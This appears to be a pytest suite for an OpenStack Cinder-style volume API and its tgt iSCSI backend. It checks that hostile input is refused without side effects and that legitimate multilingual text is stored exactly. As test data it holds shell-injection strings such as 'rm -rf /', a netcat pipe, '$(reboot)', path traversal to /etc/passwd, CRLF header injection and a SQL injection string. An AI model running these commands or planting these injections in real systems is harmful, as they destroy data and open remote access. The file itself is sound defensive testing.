"""Hostile input everywhere a caller can put a string: a clear 4xx fault (never a 5xx), nothing changed,
nothing handed to the storage backend; and the text that is legitimate (names, descriptions, metadata)
stored and returned exactly."""

from __future__ import annotations

import ast
import json
import subprocess
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from sqlalchemy import select

from app.backends import cmd
from app.backends.base import BackendError, VolumeRef
from app.backends.targets import tgt_socket
from app.backends.targets.fake import FakeTarget
from app.backends.targets.tgt import TgtTarget
from app.db.models import Attachment, AttachmentSpec, Volume, VolumeMetadata
from tests.conftest import ROOT, Api, fault

KB10 = "A" * 10 * 1024
# every kind of hostile text: shell metacharacters, line breaks, NUL, sheer size, bidi overrides and emoji
HOSTILE: dict[str, str] = {
    "semicolon": "x; rm -rf / #",
    "pipe": "x | nc 192.0.2.1 4444",
    "subshell": "$(reboot)",
    "backticks": "`id`",
    "and": "true && reboot",
    "redirect": "x > /etc/passwd",
    "newline": "x\nreboot",
    "crlf": "x\r\nX-Injected: 1",
    "nul": "x\x00y",
    "10kb": KB10,
    "rtl": "\u202eexe.txt\u202c",
    "emoji": "disk 💾🔥",
}
IQN = "iqn.1993-08.org.debian:01:"
# the same hostile parts behind a well-formed iqn prefix, so only the hostile part can be refused
HOSTILE_INITIATORS: dict[str, Any] = {name: IQN + value for name, value in HOSTILE.items()}
HOSTILE_INITIATORS |= {"bare": "$(reboot)", "list": [IQN + "a"], "object": {"iqn": IQN + "a"}, "number": 7}
GOOD_CONNECTOR = {"initiator": IQN + "good", "host": "compute-1", "ip": "192.0.2.10", "platform": "x86_64"}
# text a volume may legitimately carry, stored and returned exactly; the rest is refused
LEGIT_TEXT = {k: v for k, v in HOSTILE.items() if k not in ("nul", "10kb")} | {
    "arabic": "مرحبا بالعالم",
    "hebrew-mixed": "volume שלום 42",
    "cjk": "卷名 ボリューム",
    "zwj-emoji": "👩‍💻 family 👨‍👩‍👧",
}


def target(api: Api) -> FakeTarget:
    fake = api.app.state.backends.target
    assert isinstance(fake, FakeTarget)
    return fake


def target_calls(api: Api) -> list[str]:
    return list(target(api).faults.calls)


def store_calls(api: Api) -> list[str]:
    return list(api.app.state.backends.volumes.faults.calls)


async def rows(api: Api) -> dict[str, Any]:
    """Everything the database holds for this test's project."""
    async with api.app.state.db.read() as session:
        volumes = (await session.execute(select(Volume).where(Volume.project_id == api.project))).scalars().all()
        ids = [v.id for v in volumes]
        attachments = (
            (await session.execute(select(Attachment).where(Attachment.volume_id.in_(ids)))).scalars().all()  # type: ignore[attr-defined]
        )
        specs = (
            (
                await session.execute(
                    select(AttachmentSpec).where(AttachmentSpec.attachment_id.in_([a.id for a in attachments]))  # type: ignore[attr-defined]
                )
            )
            .scalars()
            .all()
        )
        metadata = (
            (await session.execute(select(VolumeMetadata).where(VolumeMetadata.volume_id.in_(ids)))).scalars().all()  # type: ignore[attr-defined]
        )
        return {
            "volumes": sorted((v.model_dump() for v in volumes), key=lambda r: r["id"]),
            "attachments": sorted((a.model_dump() for a in attachments), key=lambda r: r["id"]),
            "specs": sorted((s.attachment_id, s.key, s.value) for s in specs),
            "metadata": sorted((m.volume_id, m.key, m.value) for m in metadata),
        }


async def unchanged(api: Api, before: dict[str, Any], calls_before: list[str], what: str) -> None:
    assert await rows(api) == before, f"{what}: the database changed"
    assert target_calls(api) == calls_before, f"{what}: the target was called"


def refused(response: httpx.Response, what: str) -> str:
    """A clear 4xx in Cinder's fault format."""
    assert 400 <= response.status_code < 500, f"{what}: {response.status_code} {response.text[:300]}"
    return fault(response, response.status_code)


async def reserved_attachment(api: Api) -> tuple[dict[str, Any], dict[str, Any]]:
    volume = await api.create_volume()
    made = await api.post("/attachments", {"attachment": {"volume_uuid": volume["id"]}})
    assert made.status_code == 200, made.text
    return await api.volume(volume["id"]), made.json()["attachment"]


# -- connectors ---------------------------------------------------------------------------------------------------


def connectors_with(field: str) -> list[tuple[str, dict[str, Any]]]:
    values = HOSTILE_INITIATORS if field == "initiator" else HOSTILE | {"list": ["a"], "object": {"a": 1}}
    if field == "ip":
        values = values | {"host-name": "compute-1", "cidr": "192.0.2.0/24", "ip-and-port": "192.0.2.1:3260"}
    return [(name, {**GOOD_CONNECTOR, field: value}) for name, value in values.items()]


CONNECT_PATHS = ["create", "update", "os-initialize_connection"]


@pytest.mark.parametrize("field", ["initiator", "host", "ip"])
@pytest.mark.parametrize("path", CONNECT_PATHS)
async def test_hostile_connector_field_is_refused_before_anything_happens(api: Api, field: str, path: str) -> None:
    volume = await api.create_volume()
    attachment = None
    if path == "update":
        volume, attachment = await reserved_attachment(api)
    for name, connector in connectors_with(field):
        before, calls = await rows(api), target_calls(api)
        if path == "create":
            response = await api.post(
                "/attachments", {"attachment": {"volume_uuid": volume["id"], "connector": connector}}
            )
        elif path == "update":
            assert attachment is not None
            response = await api.put(f"/attachments/{attachment['id']}", {"attachment": {"connector": connector}})
        else:
            response = await api.post(f"/volumes/{volume['id']}/action", {path: {"connector": connector}})
        message = refused(response, f"{field}={name}")
        assert response.status_code == 400, message
        assert f"connector.{field}" in message, message
        await unchanged(api, before, calls, f"{path} {field}={name}")
    assert target(api).targets == {}
    assert target(api).acls(volume["id"]) == set()
    assert (await api.volume(volume["id"]))["status"] == ("reserved" if path == "update" else "available")


@pytest.mark.parametrize("field", ["initiator", "host", "ip"])
async def test_hostile_connector_never_reaches_a_disconnect(api: Api, field: str) -> None:
    """os-terminate_connection and os-force_detach validate the connector before touching the target."""
    volume = await api.create_volume()
    admin = api.as_(user="admin")
    for name, connector in connectors_with(field):
        before, calls = await rows(api), target_calls(api)
        response = await api.post(
            f"/volumes/{volume['id']}/action", {"os-terminate_connection": {"connector": connector}}
        )
        assert f"connector.{field}" in refused(response, f"terminate {field}={name}")
        response = await admin.post(f"/volumes/{volume['id']}/action", {"os-force_detach": {"connector": connector}})
        assert f"connector.{field}" in refused(response, f"force_detach {field}={name}")
        await unchanged(api, before, calls, f"disconnect {field}={name}")


async def test_other_connector_keys_are_kept_as_given_and_never_reach_the_target(api: Api) -> None:
    """SPEC 7: keys beyond initiator/host/ip are kept as given; only the validated initiator is acted on."""
    volume = await api.create_volume()
    # NUL is refused in every body (test_unpaired_surrogates_and_nul_escapes_are_refused)
    storable = {name: value for name, value in HOSTILE.items() if name != "nul"}
    extra = {f"x_{name}": value for name, value in storable.items()} | {"wwpns": ["$(id)", "`id`"], "nested": storable}
    connector = {**GOOD_CONNECTOR, **extra}
    response = await api.post("/attachments", {"attachment": {"volume_uuid": volume["id"], "connector": connector}})
    assert response.status_code == 200, response.text
    attachment_id = response.json()["attachment"]["id"]
    assert target_calls(api) == ["create_export", "add_initiator"]
    assert target(api).acls(volume["id"]) == {GOOD_CONNECTOR["initiator"]}
    stored = {key: json.loads(value) for aid, key, value in (await rows(api))["specs"] if aid == attachment_id}
    assert stored == connector
    shown = (await api.get(f"/attachments/{attachment_id}")).json()["attachment"]
    assert not any(value in json.dumps(shown, ensure_ascii=False) for value in storable.values())


@pytest.mark.parametrize("key", ["nul", "10kb", "empty", "newline"])
async def test_connector_key_that_cannot_be_stored_is_refused(api: Api, key: str) -> None:
    bad_key = {"nul": "os\x00type", "10kb": KB10, "empty": "", "newline": "os\ntype"}[key]
    volume = await api.create_volume()
    before, calls = await rows(api), target_calls(api)
    connector = {**GOOD_CONNECTOR, bad_key: "linux"}
    response = await api.post("/attachments", {"attachment": {"volume_uuid": volume["id"], "connector": connector}})
    assert response.status_code == 400, response.text
    assert "connector" in fault(response, 400)
    await unchanged(api, before, calls, f"connector key {key}")


# -- instance_uuid and the legacy attach fields ------------------------------------------------------------------


async def test_hostile_instance_uuid_is_refused(api: Api) -> None:
    volume = await api.create_volume()
    for name, value in HOSTILE.items():
        for connector in (None, GOOD_CONNECTOR):
            before, calls = await rows(api), target_calls(api)
            body = {"attachment": {"volume_uuid": volume["id"], "instance_uuid": value, "connector": connector}}
            response = await api.post("/attachments", body)
            assert "instance_uuid" in refused(response, f"instance_uuid={name}")
            await unchanged(api, before, calls, f"instance_uuid={name}")
        before, calls = await rows(api), target_calls(api)
        response = await api.post("/attachments", {"attachment": {"volume_uuid": value}})
        assert "volume_uuid" in refused(response, f"volume_uuid={name}")
        await unchanged(api, before, calls, f"volume_uuid={name}")
    assert (await api.volume(volume["id"]))["status"] == "available"


@pytest.mark.parametrize("field", ["instance_uuid", "mountpoint", "host_name"])
async def test_hostile_os_attach_field_is_refused_or_kept_exactly(api: Api, field: str) -> None:
    """os-attach: instance_uuid must be a UUID; host_name and mountpoint are text of at most 255 characters."""
    volume = await api.create_volume()
    for name, value in HOSTILE.items():
        before, calls = await rows(api), target_calls(api)
        body = {"instance_uuid": str(uuid.uuid4()), "mountpoint": "/dev/vdb", field: value}
        response = await api.post(f"/volumes/{volume['id']}/action", {"os-attach": body})
        if field == "instance_uuid" or name in ("nul", "10kb"):
            assert field in refused(response, f"os-attach {field}={name}")
            await unchanged(api, before, calls, f"os-attach {field}={name}")
            continue
        assert response.status_code == 202, f"{name}: {response.text}"
        (attachment,) = [a for a in (await rows(api))["attachments"] if a["volume_id"] == volume["id"]]
        column = {"mountpoint": "mountpoint", "host_name": "attached_host"}[field]
        assert attachment[column] == value
        admin_view = await api.as_(user="admin").volume(volume["id"])
        (item,) = admin_view["attachments"]
        assert item["device" if field == "mountpoint" else "host_name"] == value
        detached = await api.post(f"/volumes/{volume['id']}/action", {"os-detach": {}})
        assert detached.status_code == 202, detached.text
    assert not {"create_export", "add_initiator"} & set(target_calls(api))


@pytest.mark.parametrize("form", ["urn", "braces", "hex", "upper"])
async def test_uuid_spellings_are_stored_canonical(api: Api, form: str) -> None:
    """uuid.UUID reads these spellings too; they are stored in the canonical 36 characters (the column's size)."""
    instance = uuid.uuid4()
    given = {"urn": instance.urn, "braces": f"{{{instance}}}", "hex": instance.hex, "upper": str(instance).upper()}[
        form
    ]
    volume = await api.create_volume()
    made = await api.post("/attachments", {"attachment": {"volume_uuid": volume["id"], "instance_uuid": given}})
    assert made.status_code == 200, made.text
    assert made.json()["attachment"]["instance"] == str(instance)
    assert (await api.delete(f"/attachments/{made.json()['attachment']['id']}")).status_code == 200
    body = {"os-attach": {"instance_uuid": given, "mountpoint": "/dev/vdb"}}
    assert (await api.post(f"/volumes/{volume['id']}/action", body)).status_code == 202
    (attachment,) = (await rows(api))["attachments"]
    assert attachment["instance_uuid"] == str(instance)


# -- volume names, descriptions, metadata ------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["name", "description", "display_name", "display_description"])
async def test_volume_text_round_trips_exactly(api: Api, field: str) -> None:
    shown_as = field.removeprefix("display_")
    for name, value in (
        LEGIT_TEXT.items() | {("10kb-description", KB10)} if "description" in field else LEGIT_TEXT.items()
    ):
        created = await api.post("/volumes", {"volume": {"size": 1, field: value}})
        assert created.status_code == 202, f"{name}: {created.text}"
        assert created.json()["volume"][shown_as] == value
        await api.settle()
        volume_id = created.json()["volume"]["id"]
        assert (await api.volume(volume_id))[shown_as] == value
        updated = await api.put(f"/volumes/{volume_id}", {"volume": {field: value + "!"}})
        assert updated.status_code == 200, f"{name}: {updated.text}"
        assert (await api.volume(volume_id))[shown_as] == value + "!"
        if shown_as == "name":
            listed = (await api.get("/volumes", params={"name": value + "!"})).json()["volumes"]
            assert [v["id"] for v in listed] == [volume_id], name


async def test_volume_metadata_round_trips_exactly(api: Api) -> None:
    metadata = {f"k-{name}": value for name, value in LEGIT_TEXT.items()} | {
        value: name for name, value in LEGIT_TEXT.items()
    }
    volume = await api.create_volume(metadata=metadata)
    assert volume["metadata"] == metadata
    changed = {k: v + "?" for k, v in metadata.items()}
    updated = await api.put(f"/volumes/{volume['id']}", {"volume": {"metadata": changed}})
    assert updated.status_code == 200, updated.text
    assert (await api.volume(volume["id"]))["metadata"] == changed
    for key, value in list(changed.items())[:4]:
        found = await api.get("/volumes", params={"metadata": json.dumps({key: value})})
        assert [v["id"] for v in found.json()["volumes"]] == [volume["id"]], key


# text no volume can hold: NUL (PostgreSQL cannot store it), or over the field's limit
UNSTORABLE = {
    "name-nul": {"name": "x\x00y"},
    "name-10kb": {"name": KB10},
    "description-nul": {"description": "x\x00y"},
    "display_name-nul": {"display_name": "a\x00"},
    "metadata-key-nul": {"metadata": {"k\x00": "v"}},
    "metadata-value-nul": {"metadata": {"k": "v\x00"}},
    "metadata-key-10kb": {"metadata": {KB10: "v"}},
    "metadata-value-10kb": {"metadata": {"k": KB10}},
    "metadata-value-not-text": {"metadata": {"k": ["$(id)"]}},
    "volume_type-nul": {"volume_type": "__DEFAULT__\x00"},
    "volume_type-hostile": {"volume_type": "$(reboot)"},
    "availability_zone-nul": {"availability_zone": "nova\x00"},
    "availability_zone-hostile": {"availability_zone": "nova; reboot"},
}


@pytest.mark.parametrize("fields", UNSTORABLE.values(), ids=UNSTORABLE.keys())
async def test_unstorable_volume_text_is_refused(api: Api, fields: dict[str, Any]) -> None:
    volume = await api.create_volume(name="keep", metadata={"keep": "me"})
    before, calls, stored = await rows(api), target_calls(api), store_calls(api)
    response = await api.post("/volumes", {"volume": {"size": 1, **fields}})
    refused(response, f"create {fields!r:.60}")
    updatable = {k: v for k, v in fields.items() if k in ("name", "description", "display_name", "metadata")}
    if updatable:
        response = await api.put(f"/volumes/{volume['id']}", {"volume": updatable})
        refused(response, f"update {fields!r:.60}")
    await unchanged(api, before, calls, f"{fields!r:.60}")
    assert store_calls(api) == stored
    assert (await api.volume(volume["id"]))["metadata"] == {"keep": "me"}


# bodies only raw JSON can carry: an unpaired surrogate is a valid JSON escape but no UTF-8 text
RAW_BODIES: dict[str, tuple[str, str, str]] = {
    "volume name": ("POST", "/volumes", '{"volume": {"size": 1, "name": "\\ud800"}}'),
    "metadata key": ("POST", "/volumes", '{"volume": {"size": 1, "metadata": {"\\ud800": "v"}}}'),
    "metadata value": ("POST", "/volumes", '{"volume": {"size": 1, "metadata": {"k": "\\udfff"}}}'),
    "unknown key": ("POST", "/volumes", '{"volume": {"size": 1, "x\\ud800": 1}}'),
    "update name": ("PUT", "/volumes/{volume}", '{"volume": {"name": "\\ud800"}}'),
    "update metadata": ("PUT", "/volumes/{volume}", '{"volume": {"metadata": {"\\ud800": "v"}}}'),
    "merged metadata key": ("POST", "/volumes/{volume}/metadata", '{"metadata": {"\\ud800": "v"}}'),
    "replaced metadata value": ("PUT", "/volumes/{volume}/metadata", '{"metadata": {"k": "\\udfff"}}'),
    "one metadata value": ("PUT", "/volumes/{volume}/metadata/k", '{"meta": {"k": "\\ud800"}}'),
    "action name": ("POST", "/volumes/{volume}/action", '{"os-\\ud800": null}'),
    "attach field": ("POST", "/volumes/{volume}/action", '{"os-attach": {"host_name": "h\\ud800", "mountpoint": "/"}}'),
    "connector key": (
        "POST",
        "/attachments",
        '{"attachment": {"volume_uuid": "{volume}", "connector": {"initiator": "iqn.1993-08.org.debian:01:a", '
        '"\\ud800": 1}}}',
    ),
    "connector value": (
        "POST",
        "/attachments",
        '{"attachment": {"volume_uuid": "{volume}", "connector": {"initiator": "iqn.1993-08.org.debian:01:a", '
        '"os_type": "\\ud800"}}}',
    ),
    "attachment action": ("POST", "/attachments/{attachment}/action", '{"os-\\ud800": null}'),
    "type name": ("POST", "/types", '{"volume_type": {"name": "\\ud800"}}'),
    "extra spec": ("POST", "/types/__DEFAULT__/extra_specs", '{"extra_specs": {"\\ud800": "v"}}'),
}


@pytest.mark.parametrize("case", RAW_BODIES.values(), ids=RAW_BODIES.keys())
async def test_unpaired_surrogates_and_nul_escapes_are_refused(api: Api, case: tuple[str, str, str]) -> None:
    method, path, raw = case
    volume, attachment = await reserved_attachment(api)
    caller = api.as_(user="admin") if "/types" in path else api
    path = path.replace("{volume}", volume["id"]).replace("{attachment}", attachment["id"])
    raw = raw.replace("{volume}", volume["id"])
    headers = {**caller.headers(), "Content-Type": "application/json"}
    for body in (raw, raw.replace("\\ud800", "\\u0000").replace("\\udfff", "\\u0000")):
        before, calls = await rows(api), target_calls(api)
        response = await caller.client.request(method, caller.url(path), content=body.encode(), headers=headers)
        assert response.status_code == 400, f"{body}: {response.text[:300]}"
        fault(response, 400)
        await unchanged(api, before, calls, body)


@pytest.mark.parametrize(
    "token",
    [
        "alice:" + "p" * 256,
        "u" * 256 + ":project",
        "alice:" + KB10,
        "$(reboot):`id`",
        "alice:x; rm -rf /",
        "alice:a|b&&c",
    ],
)
async def test_hostile_tokens_are_refused_or_scoped(api: Api, token: str) -> None:
    """The token names the project; one too long for its column is refused, any other is a project like any."""
    headers = {"X-Auth-Token": token, "OpenStack-API-Version": "volume 3.71"}
    created = await api.client.post("/v3/volumes", json={"volume": {"size": 1}}, headers=headers)
    listed = await api.client.get("/v3/volumes", headers=headers)
    if max(len(part) for part in token.split(":")) > 255:
        assert "255" in fault(created, 401)
        fault(listed, 401)
        return
    assert created.status_code == 202, created.text
    await api.settle()
    assert [v["id"] for v in listed.json()["volumes"]] == [created.json()["volume"]["id"]]
    assert created.json()["volume"]["os-vol-tenant-attr:tenant_id"] == token.split(":", 1)[1]


# -- volume types (admin text) -----------------------------------------------------------------------------------


async def test_hostile_volume_type_text_is_refused_or_kept_exactly(api: Api) -> None:
    admin = api.as_(user="admin")
    for name, value in HOSTILE.items():
        suffix = uuid.uuid4().hex[:6]
        body = {
            "volume_type": {"name": f"{value}-{suffix}", "description": value, "extra_specs": {f"k{suffix}": value}}
        }
        response = await admin.post("/types", body)
        if name in ("nul", "10kb"):
            refused(response, f"type {name}")
            continue
        assert response.status_code == 200, f"{name}: {response.text}"
        made = response.json()["volume_type"]
        shown = (await admin.get(f"/types/{made['id']}")).json()["volume_type"]
        assert (shown["name"], shown["description"], shown["extra_specs"]) == (
            f"{value}-{suffix}",
            value,
            {f"k{suffix}": value},
        )
        for spec in ({value: "v"}, {"k": value}):
            response = await admin.post(f"/types/{made['id']}/extra_specs", {"extra_specs": spec})
            assert response.status_code == 200, f"{name}: {response.text}"
        assert (await admin.delete(f"/types/{made['id']}")).status_code == 202
    for spec in ({"k\x00": "v"}, {"k": "v\x00"}, {KB10: "v"}, {"k": KB10}):
        response = await admin.post("/types/__DEFAULT__/extra_specs", {"extra_specs": spec})
        refused(response, f"extra spec {spec!r:.40}")


# -- ids in paths -------------------------------------------------------------------------------------------------


def path_ids() -> dict[str, str]:
    return HOSTILE | {"dotdot": "../../etc/passwd", "percent": "%00", "uuid-like": str(uuid.uuid4()) + "' OR '1'='1"}


async def test_hostile_ids_in_paths_are_not_found(api: Api) -> None:
    volume, attachment = await reserved_attachment(api)
    admin = api.as_(user="admin")
    before, calls = await rows(api), target_calls(api)
    for name, value in path_ids().items():
        bad = quote(value, safe="")
        requests: list[tuple[Api, str, str, Any]] = [
            (api, "GET", f"/volumes/{bad}", None),
            (api, "PUT", f"/volumes/{bad}", {"volume": {"name": "x"}}),
            (api, "DELETE", f"/volumes/{bad}", None),
            (admin, "DELETE", f"/volumes/{bad}?force=true", None),
            (api, "POST", f"/volumes/{bad}/action", {"os-reserve": None}),
            (api, "POST", f"/volumes/{bad}/action", {"os-initialize_connection": {"connector": GOOD_CONNECTOR}}),
            (admin, "POST", f"/volumes/{bad}/action", {"os-reset_status": {"status": "available"}}),
            (api, "GET", f"/volumes/{bad}/metadata", None),
            (api, "POST", f"/volumes/{bad}/metadata", {"metadata": {"k": "v"}}),
            (api, "PUT", f"/volumes/{bad}/metadata", {"metadata": {}}),
            (api, "GET", f"/volumes/{bad}/metadata/k", None),
            (api, "PUT", f"/volumes/{bad}/metadata/k", {"meta": {"k": "v"}}),
            (api, "DELETE", f"/volumes/{bad}/metadata/k", None),
            (api, "GET", f"/volumes/{volume['id']}/metadata/{bad}", None),
            (api, "PUT", f"/volumes/{volume['id']}/metadata/{bad}", {"meta": {"k": "v"}}),
            (api, "DELETE", f"/volumes/{volume['id']}/metadata/{bad}", None),
            (api, "GET", f"/attachments/{bad}", None),
            (api, "PUT", f"/attachments/{bad}", {"attachment": {"connector": GOOD_CONNECTOR}}),
            (api, "DELETE", f"/attachments/{bad}", None),
            (api, "POST", f"/attachments/{bad}/action", {"os-complete": None}),
            (api, "GET", f"/types/{bad}", None),
            (api, "GET", f"/types/{bad}/extra_specs", None),
            (admin, "DELETE", f"/types/{bad}", None),
            (admin, "POST", f"/types/{bad}/extra_specs", {"extra_specs": {"k": "v"}}),
            (admin, "DELETE", f"/types/__DEFAULT__/extra_specs/{bad}", None),
        ]
        for caller, method, path, body in requests:
            response = await caller.client.request(method, caller.url(path), json=body, headers=caller.headers())
            assert response.status_code in (400, 404), f"{method} {path[:80]} ({name}): {response.text[:200]}"
            refused(response, f"{method} {path[:80]} ({name})")
        # the project segment is an id in the path too
        response = await api.client.get(f"/v3/{quote(value, safe='')}/volumes", headers=api.headers())
        assert response.status_code in (400, 404), f"project {name}: {response.text[:200]}"
        refused(response, f"project {name}")
    await unchanged(api, before, calls, "hostile path ids")
    assert (await api.get(f"/attachments/{attachment['id']}")).json()["attachment"]["status"] == "reserved"
    assert (await api.volume(volume["id"]))["status"] == "reserved"


# -- query filters, sort and marker -------------------------------------------------------------------------------

VOLUME_QUERIES = ["name", "status", "metadata", "bootable", "availability_zone", "sort", "sort_key", "sort_dir"]
VOLUME_QUERIES += ["marker", "limit", "offset", "with_count", "all_tenants", "project_id", "unknown"]
ATTACHMENT_QUERIES = ["volume_id", "status", "instance_id", "sort", "marker", "limit", "offset", "all_tenants"]
NUMBERS = {"huge": "9" * 40, "negative": "-1", "float": "1.5", "digits-5000": "1" * 5000}


@pytest.mark.parametrize(
    ("resource", "keys"),
    [("/volumes", VOLUME_QUERIES), ("/volumes/detail", VOLUME_QUERIES), ("/attachments", ATTACHMENT_QUERIES)],
)
async def test_hostile_query_is_refused_or_matches_nothing(api: Api, resource: str, keys: list[str]) -> None:
    """A filter value is data: it matches nothing (200, empty) or is refused (4xx); sort keys, markers,
    numbers and booleans that are not what they must be are refused. Never a 5xx, for admins neither."""
    await reserved_attachment(api)
    admin = api.as_(user="admin")
    values = HOSTILE | NUMBERS
    before, calls = await rows(api), target_calls(api)
    plural = resource.strip("/").split("/")[0]
    for caller in (api, admin):
        for key in keys:
            for name, value in values.items():
                response = await caller.get(resource, params={key: value})
                what = f"{caller.user} {resource}?{key}={name}"
                if response.status_code == 200:
                    assert key not in ("sort", "sort_key", "sort_dir", "marker", "bootable"), what
                    listed = response.json()[plural]
                    # a non-admin's all_tenants is ignored, and so is an admin's project_id without all_tenants
                    ignored = (key, caller) in (("all_tenants", api), ("project_id", admin))
                    assert listed == [] or ignored or (key in ("limit", "offset") and name != "negative"), what
                else:
                    assert response.status_code in (400, 404), f"{what}: {response.status_code} {response.text[:200]}"
                    refused(response, what)
    await unchanged(api, before, calls, f"{resource} queries")


# -- headers -------------------------------------------------------------------------------------------------------

VERSION_HEADERS = {
    "5000-digit minor": ("volume 3." + "1" * 5000, 400),
    "5000-digit major": ("volume " + "3" * 5000 + ".0", 400),
    "10-digit minor": ("volume 3.1000000000", 400),
    "9-digit minor": ("volume 3.999999999", 406),
    "subshell": ("volume $(reboot)", 400),
    "semicolon": ("volume 3.71; reboot", 400),
    "10kb": ("volume " + KB10, 400),
    "many services": (", ".join(["compute 2.1"] * 500) + ", volume 3.71", 200),
}


@pytest.mark.parametrize(("value", "code"), VERSION_HEADERS.values(), ids=VERSION_HEADERS.keys())
async def test_hostile_microversion_header_is_a_fault(api: Api, value: str, code: int) -> None:
    response = await api.get("/volumes", headers={"OpenStack-API-Version": value})
    assert response.status_code == code, response.text[:300]
    assert response.headers["x-openstack-request-id"].startswith("req-")
    if code != 200:
        fault(response, code)


# -- the command runner and the tgt target: argv only, validated before tgtadm ------------------------------------


def test_run_refuses_a_command_string(monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[Any] = []
    monkeypatch.setattr(cmd.subprocess, "Popen", lambda *a, **kw: started.append((a, kw)))
    for command in ("tgtadm --op show --mode target; reboot", b"tgtadm --op show"):
        with pytest.raises(TypeError):
            cmd.run(command)  # type: ignore[arg-type]
    assert started == []


def test_run_hands_argv_to_popen_without_a_shell(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[tuple[Any, dict[str, Any]]] = []

    class Proc:
        pid = 0
        returncode = 0

        def communicate(self, timeout: float | None = None) -> tuple[str, str]:
            return "", ""

    def popen(args: Any, **kwargs: Any) -> Proc:
        seen.append((args, kwargs))
        return Proc()

    monkeypatch.setattr(cmd.subprocess, "Popen", popen)
    hostile = ["tgtadm", "--op", "bind", "-Q", "x; reboot", "$(id)", "`id`", "a && b", "> /etc/passwd", "a\nb"]
    cmd.run(hostile)
    ((args, kwargs),) = seen
    assert args == hostile
    assert kwargs.get("shell", False) is False
    assert kwargs["stdin"] is subprocess.DEVNULL


def test_only_the_command_runner_starts_processes() -> None:
    """No module but app/backends/cmd.py touches subprocess, os.system/popen/exec* or shell=True."""
    offenders = []
    for path in sorted((ROOT / "app").rglob("*.py")):
        tree = ast.parse(path.read_text(), filename=str(path))
        relative = path.relative_to(ROOT)
        for node in ast.walk(tree):
            if isinstance(node, ast.keyword) and node.arg == "shell":
                offenders.append(f"{relative}:{node.value.lineno} shell=")
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                name = f"{node.value.id}.{node.attr}"
                if node.value.id == "subprocess" and relative != Path("app/backends/cmd.py"):
                    offenders.append(f"{relative}:{node.lineno} {name}")
                if node.value.id == "os" and (
                    node.attr in ("system", "popen") or node.attr.startswith(("exec", "spawn"))
                ):
                    offenders.append(f"{relative}:{node.lineno} {name}")
            if (
                isinstance(node, ast.ImportFrom)
                and node.module in ("subprocess", "pty")
                and relative != Path("app/backends/cmd.py")
            ):
                offenders.append(f"{relative}:{node.lineno} from {node.module} import")
    assert offenders == []


class RecordingRun:
    """Stands in for cmd.run inside the tgt target: records every argv, answers like an empty tgtd."""

    def __init__(self, show: str = "") -> None:
        self.argvs: list[Any] = []
        self.show = show

    def __call__(self, argv: Any, **_kw: Any) -> cmd.Completed:
        assert isinstance(argv, list), argv
        assert all(isinstance(a, str) for a in argv), argv
        self.argvs.append(argv)
        return cmd.Completed(0, self.show if "show" in argv else "", "")

    def install(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """In place of both ways the target makes a tgtadm request: the command, and tgtd's socket."""
        monkeypatch.setattr(cmd, "run", self)
        monkeypatch.setattr(tgt_socket, "run", self)


VOLUME = VolumeRef(id=str(uuid.uuid4()), size_gb=1)
TGT_TARGET_SHOW = f"""Target 1: iqn.2010-10.org.openstack:volume-{VOLUME.id}
    System information:
        Driver: iscsi
        State: ready
    LUN information:
        LUN: 1
            Backing store path: /dev/fake/volume-{VOLUME.id}
    Account information:
        chapuser
    ACL information:
        {IQN}good
"""


@pytest.mark.parametrize("initiator", HOSTILE_INITIATORS.values(), ids=HOSTILE_INITIATORS.keys())
@pytest.mark.parametrize("operation", ["add_initiator", "remove_initiator"])
def test_tgt_refuses_an_unvalidated_initiator_before_tgtadm(
    monkeypatch: pytest.MonkeyPatch, operation: str, initiator: Any
) -> None:
    recorder = RecordingRun(TGT_TARGET_SHOW)
    recorder.install(monkeypatch)
    tgt = TgtTarget("iqn.2010-10.org.openstack:", "127.0.0.1:3260", control_port=3261)
    with pytest.raises(BackendError, match="refusing initiator"):
        getattr(tgt, operation)(VOLUME, initiator)
    assert recorder.argvs == []


def test_tgt_passes_a_valid_initiator_as_one_argv_item(monkeypatch: pytest.MonkeyPatch) -> None:
    recorder = RecordingRun(TGT_TARGET_SHOW)
    recorder.install(monkeypatch)
    tgt = TgtTarget("iqn.2010-10.org.openstack:", "127.0.0.1:3260", control_port=3261)
    tgt.add_initiator(VOLUME, IQN + "other")
    binds = [argv for argv in recorder.argvs if "bind" in argv]
    assert binds == [
        [
            "tgtadm",
            "-C",
            "3261",
            "--lld",
            "iscsi",
            "--op",
            "bind",
            "--mode",
            "target",
            "--tid",
            "1",
            "-Q",
            IQN + "other",
        ]
    ]


@pytest.mark.parametrize("value", ["iqn.2010-10.org.example:a,user=admin", "iqn.2010-10.org.example:a\x00b"])
def test_a_value_tgtd_would_split_is_never_sent_on_its_socket(value: str) -> None:
    """tgtd reads a request's text as comma-separated name=value pairs, with no quoting: the target's own check
    comes first (initiator names, CHAP values), and the socket client refuses such a value whatever sends it."""
    argv = ["tgtadm", "-C", "3261", "--lld", "iscsi", "--op", "bind", "--mode", "target", "--tid", "1", "-Q", value]
    with pytest.raises(BackendError, match="not sent to tgtd: a tgtadm value with a comma or a NUL"):
        tgt_socket.run(argv)


def test_every_route_of_the_api_checks_its_input() -> None:
    """The input check (NUL, unpaired surrogates) runs in the dependency that makes a route's Api: a route of
    the API that declared none would take what no database stores."""
    from fastapi.routing import APIRoute

    from app.main import _RESOURCE_MODULES
    from app.routers.deps import RESOLVERS

    routes = [route for module in _RESOURCE_MODULES for route in module.router.routes if isinstance(route, APIRoute)]
    assert len(routes) >= 30
    unchecked = [
        f"{sorted(route.methods)} {route.path}"
        for route in routes
        if not any(dependency.call in RESOLVERS for dependency in route.dependant.dependencies)
    ]
    assert unchecked == []
